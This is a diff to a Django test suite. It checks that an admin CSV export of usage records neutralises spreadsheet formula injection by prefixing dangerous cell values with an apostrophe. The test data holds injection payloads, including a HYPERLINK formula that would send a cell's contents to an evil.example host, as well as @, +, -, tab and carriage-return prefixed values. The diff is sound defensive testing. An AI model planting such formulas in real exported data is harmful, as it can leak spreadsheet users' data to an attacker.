@@ -84,9 +84,13 @@ def test_the_csv_export_has_the_filtered_rows(root: Client, user: Any, other_use
                         ["2025-02-02", "mallory", "gpt", "7", "7", "0", "0.0000000000", "0.0000000000", "1", "0"]]
 
     formula = django_user_model.objects.create_user("=HYPERLINK(1)")
-    UsageLedger.objects.create(user=formula, day=TODAY, requests=1)
+    for model in ('=HYPERLINK("https://evil.example/?x="&A1)', "@SUM(1+1)", "\tcmd", "+1", "-2", "\r=1", "gpt"):
+        UsageLedger.objects.create(user=formula, day=TODAY, model=model, requests=1)
     exported = root.get(reverse("admin:jxai_app_usageledger_export"), {"user__id__exact": formula.pk})
-    assert "'=HYPERLINK(1)" in exported.content.decode()
+    cells = [(day, name, model) for day, name, model, *_ in csv.reader(io.StringIO(exported.content.decode()))][1:]
+    assert {name for _, name, _ in cells} == {"'=HYPERLINK(1)"}
+    assert sorted(model for _, _, model in cells) == sorted([
+        '\'=HYPERLINK("https://evil.example/?x="&A1)', "'@SUM(1+1)", "'\tcmd", "'+1", "'-2", "'\r=1", "gpt"])
 
     staff = Client()
     staff.force_login(django_user_model.objects.create_user("clerk", is_staff=True))
